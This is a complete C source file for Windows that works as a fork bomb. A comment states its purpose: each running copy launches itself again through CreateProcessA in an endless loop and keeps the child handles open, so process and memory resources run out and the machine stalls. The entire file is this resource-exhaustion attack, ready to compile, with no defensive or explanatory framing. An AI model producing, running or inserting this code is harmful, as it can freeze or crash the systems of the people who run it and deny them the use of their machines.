/* Starts itself over and over, and so does every copy, until the machine has no room for more. */
#include <stdio.h>
#include <windows.h>

int main(int count, char **arguments) {
  char self[MAX_PATH];
  STARTUPINFOA startup = { .cb = sizeof startup };
  PROCESS_INFORMATION child;
  unsigned made = 0;
  (void)count, (void)arguments;
  GetModuleFileNameA(NULL, self, sizeof self);
  /* The handles stay open. */
  while (CreateProcessA(self, NULL, NULL, NULL, TRUE, 0, NULL, NULL, &startup, &child)) made++;
  printf("%lu: error %lu after %u\n", GetCurrentProcessId(), GetLastError(), made);
  return 0;
}
